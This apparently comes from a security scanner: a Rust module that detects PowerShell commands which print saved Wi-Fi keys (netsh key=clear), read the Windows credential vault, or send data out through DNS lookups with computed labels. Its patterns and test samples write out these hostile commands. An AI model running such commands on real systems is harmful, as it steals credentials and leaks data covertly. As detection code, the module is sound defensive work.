//! Round 31: PowerShell commands that read a saved secret or carry data in
//! a side channel, beside the reader's own table (`powershell.rs` hands the
//! segment here):
//!
//! * a saved Wi-Fi key printed (`netsh wlan show profile name=X
//!   key=clear`), the credential read the shell table gives the same line;
//! * a DNS lookup of a computed name (`Resolve-DnsName -Name
//!   "$label.$i.$zone"`, `nslookup "$hex.zone"`, `Test-Connection
//!   "$c.zone"`): a variable used as a label in front of a further name part
//!   carries data in the query (`NetKind::Dns`, computed: SK-EXFIL-003). A
//!   whole-name variable (`Resolve-DnsName $host`), an environment value
//!   (`"$env:COMPUTERNAME.corp"`) and a fixed name stay plain lookups.

use super::net_send::{NetCall, NetKind};
use super::ps_words::{param, positional};
use crate::evidence::{Evidence, Op};
use crate::ssl::vocab::{ActType as A, ResourceScope as R};

/// The programs this module reads (lower case, no `.exe`).
pub const NAMES: &[&str] = &["netsh", "resolve-dnsname", "nslookup", "test-connection"];

/// A variable (`$x`, `${x}`, `$(…)`) followed by `.` and a further name
/// part: a label computed from data.
static LABEL_VAR: crate::rx::Lazy = crate::rx::Lazy::new(
    r"\$(?:\{[^}]{1,64}\}|\((?:[^()]|\([^()]*\)){1,200}\)|[A-Za-z_]\w*(?::\w+)?)\.[\w$(]",
);

/// The evidence for one segment (`toks`, its text `body`, the variables
/// it reads `refs`), if this module knows the command.
pub fn evidence(name: &str, toks: &[String], body: &str, refs: Vec<String>) -> Option<Evidence> {
    if name == "netsh" {
        let lower = body.to_ascii_lowercase();
        if !(lower.contains("wlan") && lower.contains("key=clear")) {
            return None;
        }
        return Some(
            Evidence::new(
                Op::KeychainRead,
                A::Read,
                R::Credentials,
                "netsh wlan key=clear",
            )
            .object("saved Wi-Fi key printed")
            .instrument("netsh"),
        );
    }
    let host = param(toks, &["Name", "TargetName", "ComputerName"])
        .map(str::to_string)
        .or_else(|| {
            positional(toks, &["Type", "Server", "Count", "BufferSize"])
                .into_iter()
                .next()
        })?;
    let computed = LABEL_VAR
        .find_iter(&host)
        .any(|m| !m.as_str().to_ascii_lowercase().starts_with("$env:"));
    let target = host.trim_matches(['"', '\'']).to_string();
    let mut call =
        NetCall::new(NetKind::Dns, target).inputs(if computed { refs } else { Vec::new() });
    call.computed = computed;
    call.tag_url = false;
    Some(call.lower().1)
}

/// .NET name lookups written in PowerShell (`[System.Net.Dns]::GetHostAddresses("$h.zone")`).
static DOTNET_DNS: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?i)\[(?:system\.)?net\.dns\]::(?:gethostaddresses|gethostentry|resolve|gethostbyname)(?:async)?\(\s*"([^"\n]{1,400})""#,
);
/// A variable a string reads.
static VAR: crate::rx::Lazy = crate::rx::Lazy::new(r"\$\{?([A-Za-z_]\w*)");

/// The .NET lookups of one PowerShell file, read at token level: a computed
/// label is a DNS lookup of a computed name with the variables it reads.
pub fn dotnet_dns(src: &super::Src, sink: &mut super::Sink) {
    for c in DOTNET_DNS.captures_iter(src.text) {
        let (Some(all), Some(name)) = (c.get(0), c.get(1)) else {
            continue;
        };
        if super::token_calls::in_comment_line(src.text, all.start()) {
            continue;
        }
        let computed = LABEL_VAR
            .find_iter(name.as_str())
            .any(|m| !m.as_str().to_ascii_lowercase().starts_with("$env:"));
        let inputs: Vec<String> = if computed {
            VAR.captures_iter(name.as_str())
                .filter_map(|v| v.get(1))
                .map(|v| format!("${}", v.as_str()))
                .collect()
        } else {
            Vec::new()
        };
        let mut call = NetCall::new(NetKind::Dns, name.as_str()).inputs(inputs);
        call.computed = computed;
        call.tag_url = false;
        sink.push(src.at(call.lower().1, all.start(), all.end(), "powershell"));
    }
}

/// The Windows credential vault read (`PasswordVault.RetrieveAll()`,
/// `.RetrievePassword()`, `FindAllByResource`), in a file that names the
/// vault type.
static VAULT_READ: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?i)\.(?:retrieveall|retrievepassword|findallbyresource|findallbyusername)\s*\(",
);
/// The variable a line assigns (`$state.vault = …` → `$state`).
static ASSIGNED: crate::rx::Lazy = crate::rx::Lazy::new(r"^\s*\$([A-Za-z_]\w*)[\w.\[\]']*\s*=[^=]");

/// Secrets read from the Windows credential vault, at token level: one
/// credential-store read per file, bound to the variable its line assigns.
pub fn vault_reads(src: &super::Src, sink: &mut super::Sink) {
    if !src.text.to_ascii_lowercase().contains("passwordvault") {
        return;
    }
    let Some(m) = VAULT_READ
        .find_iter(src.text)
        .find(|m| !super::token_calls::in_comment_line(src.text, m.start()))
    else {
        return;
    };
    let (ls, le) = super::region::line_span(src.text, m.start());
    let line = &src.text[ls..le];
    let mut ev = Evidence::new(Op::KeychainRead, A::Read, R::Credentials, "PasswordVault")
        .object("Windows credential vault read (every saved password)")
        .instrument("PasswordVault");
    ev.output = ASSIGNED
        .captures(line)
        .and_then(|c| c.get(1))
        .map(|v| format!("${}", v.as_str()));
    sink.push(src.at(ev, m.start(), m.end(), "powershell"));
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toks(s: &str) -> Vec<String> {
        s.split_whitespace().map(str::to_string).collect()
    }

    #[test]
    fn computed_labels_only() {
        for (name, line) in [
            (
                "resolve-dnsname",
                r#"Resolve-DnsName -Name "$label.$($i / 60).$id.$zone" -Type A"#,
            ),
            ("nslookup", r#"nslookup "$hex.x.zone.example""#),
            (
                "test-connection",
                r#"Test-Connection "${c}.t.example" -Count 1"#,
            ),
        ] {
            let e = evidence(name, &toks(line), line, vec!["$label".into()]).expect(line);
            assert!(e.has(crate::evidence::Tag::Encoded), "{line}");
        }
        for (name, line) in [
            (
                "resolve-dnsname",
                r#"Resolve-DnsName -Name github.com -Type A"#,
            ),
            ("resolve-dnsname", r#"Resolve-DnsName $HostName"#),
            ("nslookup", r#"nslookup "$env:COMPUTERNAME.corp.example""#),
        ] {
            let e = evidence(name, &toks(line), line, vec![]).expect(line);
            assert!(!e.has(crate::evidence::Tag::Encoded), "{line}");
        }
    }

    #[test]
    fn wifi_key_printed() {
        let l = r#"netsh wlan show profile name="$Name" key=clear"#;
        assert!(evidence("netsh", &toks(l), l, vec![]).is_some_and(|e| e.op == Op::KeychainRead));
        let l = "netsh wlan show profiles";
        assert!(evidence("netsh", &toks(l), l, vec![]).is_none());
    }
}
